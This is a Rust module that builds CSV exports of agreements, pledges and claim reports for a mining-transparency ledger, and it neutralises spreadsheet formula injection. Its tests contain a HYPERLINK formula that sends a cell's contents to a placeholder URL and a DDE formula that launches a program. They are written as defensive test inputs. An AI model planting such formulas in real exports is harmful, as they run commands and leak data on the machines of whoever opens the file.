//! CSV exports (RFC 4180: a header row, `,` between fields, CRLF after
//! every row, a field quoted with `"` when it holds `,`, `"`, CR or LF,
//! a `"` inside doubled). Lists inside one field are joined with `;`.
//! The `figures` column of every row says `illustrative` when any figure
//! in it was invented for a demonstration, else `reported`. Computed
//! columns (disclosure, status, overdue) are as of the `today` given.
//! A field that a spreadsheet would read as a formula (it starts with
//! `=`, `+`, `-`, `@`, a tab or a CR: any party writes titles and
//! descriptions) is written with a `'` in front, so that it opens as text.

use oretrace_domain::money::{Date, Money};
use oretrace_domain::record::Figures;
use oretrace_domain::values::format_decimal;
use oretrace_ledger::agreements::state::{AgreementState, ReportState};

fn field(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        return format!("\"'{}\"", text.replace('"', "\"\""));
    }
    if text.contains([',', '"', '\r', '\n']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text.to_owned()
    }
}

fn row(out: &mut String, cells: &[String]) {
    let cells: Vec<String> = cells.iter().map(|c| field(c)).collect();
    out.push_str(&cells.join(","));
    out.push_str("\r\n");
}

fn header(columns: &[&str]) -> String {
    let mut out = String::new();
    row(
        &mut out,
        &columns.iter().map(|c| (*c).to_owned()).collect::<Vec<_>>(),
    );
    out
}

fn join<T: std::fmt::Display>(items: &[T]) -> String {
    items
        .iter()
        .map(ToString::to_string)
        .collect::<Vec<_>>()
        .join(";")
}

fn opt<T: std::fmt::Display>(value: Option<T>) -> String {
    value.map(|v| v.to_string()).unwrap_or_default()
}

fn figures(f: Figures) -> String {
    f.as_str().to_owned()
}

fn yes_no(b: bool) -> String {
    if b { "yes" } else { "no" }.to_owned()
}

fn amount(money: Option<&Money>) -> (String, String) {
    money.map_or((String::new(), String::new()), |m| {
        (
            format_decimal(&m.amount()),
            m.currency().as_str().to_owned(),
        )
    })
}

/// One row per agreement (its latest version). Columns:
/// `id`, `title`, `kind`, `status` (legal status the latest version
/// states), `version` (latest version number), `parties`, `countries`,
/// `commodities`, `signed` (signing date of version 1), `disclosure`
/// (`public`, `sealed`, `partly-disclosed`, `revealed`), `clauses`
/// (clause count if sealed), `revealed` (clauses revealed),
/// `disclose_by` (planned date while sealed text remains),
/// `disclosure_overdue` (`yes`/`no` on `today`), `overdue` (disclosure
/// or a pledge, on `today`), `pledges` (how many), `registered` and
/// `latest_index` (log indices of the first version and the latest
/// record), `figures`. No clause text: the text of a public or revealed
/// clause is in the OCDS export, never here.
pub fn agreements_csv(agreements: &[AgreementState], today: Date) -> String {
    let mut out = header(&[
        "id",
        "title",
        "kind",
        "status",
        "version",
        "parties",
        "countries",
        "commodities",
        "signed",
        "disclosure",
        "clauses",
        "revealed",
        "disclose_by",
        "disclosure_overdue",
        "overdue",
        "pledges",
        "registered",
        "latest_index",
        "figures",
    ]);
    for a in agreements {
        row(
            &mut out,
            &[
                a.id.to_string(),
                a.title.to_string(),
                a.kind.to_string(),
                a.status.to_string(),
                a.latest.to_string(),
                join(&a.parties),
                join(&a.countries),
                join(&a.commodities),
                a.signed.to_string(),
                a.disclosure.as_str().to_owned(),
                opt(a.clauses),
                a.revealed.to_string(),
                opt(a.disclose_by),
                yes_no(a.disclosure_overdue(today)),
                yes_no(a.overdue(today)),
                a.pledges.len().to_string(),
                a.registered.to_string(),
                a.index.to_string(),
                figures(a.figures),
            ],
        );
    }
    out
}

/// One row per pledge or milestone of each agreement's latest version.
/// Columns: `agreement`, `pledge` (its id), `description`, `due`,
/// `pledged` (exact decimal; empty for a milestone), `unit` (ISO 4217
/// code, `kg` or the count's unit), `delivered` (sum of accepted progress
/// reports in the same unit), `complete` (a milestone reported complete),
/// `status` (`open`, `met`, `partly-met`, `not-met` on `today`),
/// `overdue` (`yes`/`no` on `today`), `reports`, `last_report`,
/// `figures` (the agreement's).
pub fn pledges_csv(agreements: &[AgreementState], today: Date) -> String {
    let mut out = header(&[
        "agreement",
        "pledge",
        "description",
        "due",
        "pledged",
        "unit",
        "delivered",
        "complete",
        "status",
        "overdue",
        "reports",
        "last_report",
        "figures",
    ]);
    for a in agreements {
        for p in &a.pledges {
            row(
                &mut out,
                &[
                    a.id.to_string(),
                    p.id.to_string(),
                    p.description.to_string(),
                    p.due.to_string(),
                    p.pledged.map(|d| format_decimal(&d)).unwrap_or_default(),
                    p.unit.clone().unwrap_or_default(),
                    format_decimal(&p.delivered),
                    yes_no(p.complete),
                    p.status(today).as_str().to_owned(),
                    yes_no(p.overdue(today)),
                    p.reports.to_string(),
                    opt(p.last_report),
                    figures(a.figures),
                ],
            );
        }
    }
    out
}

/// One row per report of an unconfirmed claim (its latest version).
/// Columns: `id`, `version`, `author`, `claim`, `topic`, `countries`,
/// `commodities`, `amount` (exact decimal of the claimed value, if any),
/// `currency`, `status` (`unconfirmed`, `confirmed`, `refuted`),
/// `confirmed_by` (agreement id), `refuted_by` (the refuting source's
/// URL), `sources` (URLs), `time` (of the latest version), `indices`
/// (log index of every version), `figures`.
pub fn reports_csv(reports: &[ReportState]) -> String {
    let mut out = header(&[
        "id",
        "version",
        "author",
        "claim",
        "topic",
        "countries",
        "commodities",
        "amount",
        "currency",
        "status",
        "confirmed_by",
        "refuted_by",
        "sources",
        "time",
        "indices",
        "figures",
    ]);
    for s in reports {
        let r = s.record();
        let (value, currency) = amount(r.value.as_ref());
        let sources: Vec<String> = r.sources.iter().map(|s| s.url.to_string()).collect();
        row(
            &mut out,
            &[
                r.id.to_string(),
                r.version.to_string(),
                s.author().to_string(),
                r.claim.to_string(),
                r.topic.to_string(),
                join(&r.countries),
                join(&r.commodities),
                value,
                currency,
                r.status.to_string(),
                opt(r.confirmed_by.as_ref()),
                opt(r.refuted_by.as_ref().map(|s| s.url.to_string())),
                sources.join(";"),
                r.time.to_string(),
                join(s.versions()),
                figures(r.figures),
            ],
        );
    }
    out
}

#[cfg(test)]
mod tests {
    use super::field;

    #[test]
    fn a_field_a_spreadsheet_would_run_opens_as_text() {
        assert_eq!(
            super::field("=HYPERLINK(\"http://x/\"&A1,\"x\")"),
            "\"'=HYPERLINK(\"\"http://x/\"\"&A1,\"\"x\"\")\""
        );
        assert_eq!(
            super::field("=cmd|' /C calc'!A0"),
            "\"'=cmd|' /C calc'!A0\""
        );
        for c in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert!(super::field(c).starts_with("\"'"), "{c:?}");
        }
        assert_eq!(super::field("MoU, 2025"), "\"MoU, 2025\"");
        assert_eq!(super::field("500000000"), "500000000");
    }

    #[test]
    fn quoting_follows_rfc_4180() {
        assert_eq!(field("plain"), "plain");
        assert_eq!(field("a,b"), "\"a,b\"");
        assert_eq!(field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(field("two\nlines"), "\"two\nlines\"");
    }
}
